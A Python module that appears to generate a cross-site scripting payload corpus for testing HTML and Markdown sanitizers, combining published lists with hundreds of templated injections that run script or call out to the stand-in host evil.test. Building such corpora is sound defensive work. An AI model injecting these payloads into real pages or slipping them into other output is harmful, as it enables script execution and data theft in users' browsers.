"""Texts that would run in a page if any of them were ever read as markup: two published collections, and our own for places that those do not know.

Our own follow OWASP's filter evasion cheat sheet and PortSwigger's cheat sheet (event handlers by element, script and style elements, addresses
with a scheme, broken and nested markup, breaking out of attributes, of raw-text elements, of Markdown and of templates, odd encodings). Each of ours
that runs sets `window.pwned`, each that loads asks for an address on `evil.test`; the published ones (corpus/README.md) mostly call `alert`.
"""

from __future__ import annotations

import json
import pathlib
from collections.abc import Iterator

CORPUS = pathlib.Path(__file__).parent / "corpus"
RUNS = ("window.pwned=1", "fetch('//evil.test/')")
SELF_STARTING = (
    ("img src=x", "onerror"), ("img src=//evil.test/i.png", "onload"), ("svg", "onload"), ("body", "onload"), ("iframe", "onload"),
    ("video src=x", "onerror"), ("video><source", "onerror"), ("audio src=x", "onerror"), ("details open", "ontoggle"), ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("button autofocus", "onfocus"), ("marquee", "onstart"), ("object data=x", "onerror"),
    ("embed src=//evil.test/e", "onload"), ("link rel=stylesheet href=//evil.test/l.css", "onload"), ("style", "onload"), ("script src=//evil.test/s.js", "onerror"),
    ("svg><animate attributeName=x dur=1s", "onbegin"), ("svg><set attributeName=x", "onbegin"), ("div style='animation:a' ", "onanimationstart"),
    ("input type=image src=x", "onerror"), ("picture><img src=x", "onerror"), ("math><mtext><img src=x", "onerror"), ("noscript><img src=x", "onerror"),
)  # fmt: skip
"""(an element as it begins, the event that starts it with no person)."""
ELEMENTS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script\n>{}</script>", "<script/x>{}</script>", "<<script>{};//<</script>", "<script>{}//",
    "<svg><script>{}</script></svg>", "<svg><script href=data:,{} />", "<scr<script>ipt>{}</scr</script>ipt>", "<template><script>{}</script></template>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src=javascript:{}></iframe>", "<object data=javascript:{}></object>", "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>", "<a href=' javascript:{}'>x</a>", "<a href=java&#10;script:{}>x</a>", "<a href=&#106;avascript:{}>x</a>",
    "<form action=javascript:{}><button>x</button></form>", "<form><button formaction=javascript:{}>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href=javascript:{}//>", "<math href=javascript:{}>x</math>",
    "<svg><a xlink:href=javascript:{}><text y=9>x</text></a></svg>", "<style>@import '//evil.test/{}'</style>", "<isindex action=javascript:{}>",
    "[x](javascript:{})", "![x](javascript:{})", "[x]: javascript:{}\n\n[x]", "<javascript:{}>", "[x](<javascript:{}>)", "```html\n<script>{}</script>\n```",
    "$$\\href{{javascript:{}}}{{x}}$$", "$\\mmlToken{{mi}}[href='javascript:{}']{{x}}$", "\\begin{{equation}}\\href{{javascript:{}}}{{x}}\\end{{equation}}", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}",
)  # fmt: skip
BREAKS = (
    '"><script>{}</script>', "'><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "</style><script>{}</script>", "</script><script>{}</script>", "</noscript><script>{}</script>", "</summary></details><script>{}</script>",
    "</pre><img src=x onerror={}>", "</code><img src=x onerror={}>", "</td></tr></table><img src=x onerror={}>", "</svg><img src=x onerror={}>",
    '" onfocus="{}" autofocus x="', "' onmouseover='{}' x='", "` onerror={} `", "\u2028<script>{}</script>", "\x00<script>{}</script>", "\ufeff<script>{}</script>",
    "\ud800<script>{}</script>", "+ADw-script+AD4-{}+ADw-/script+AD4-", "&lt;script&gt;{}&lt;/script&gt;", "%3Cscript%3E{}%3C/script%3E", "\\u003cscript\\u003e{}\\u003c/script\\u003e",
)  # fmt: skip
LOADS = (
    "<img src=//evil.test/{0}.png>", "<img srcset='//evil.test/{0}.png 1x'>", "![x](//evil.test/{0}.png)", "![x](http://evil.test/{0}.png)",
    "<link rel=prefetch href=//evil.test/{0}>", "<link rel=icon href=//evil.test/{0}>", "<div style='background:url(//evil.test/{0})'>",
    "<svg><image href=//evil.test/{0} /></svg>", "<svg><use href=//evil.test/{0}#x /></svg>", "<video poster=//evil.test/{0}>", "<input type=image src=//evil.test/{0}>",
    "$\\style{{background:url(//evil.test/{0})}}{{x}}$", "<table background=//evil.test/{0}>", "<body background=//evil.test/{0}>", "<object data=//evil.test/{0}>", "<iframe src=//evil.test/{0}>",
    "<style>*{{background:url(//evil.test/{0})}}</style>", "<meta http-equiv=refresh content='0;url=//evil.test/{0}'>", "<script src=//evil.test/{0}></script>",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once, in an order that stays."""
    published = [payload for name in ("payloadbox", "dompurify") for payload in json.loads((CORPUS / f"{name}.json").read_text())]
    return list(dict.fromkeys([*_made(), *published]))


def _made() -> Iterator[str]:
    for start, event in SELF_STARTING:
        yield f'<{start} {event}="{RUNS[0]}">'
        yield f"<{start}/{event}=pwned=1//"
    for shape in (*ELEMENTS, *BREAKS):
        for code in RUNS:
            yield shape.format(code)
    for number, shape in enumerate(LOADS):
        yield shape.format(number)
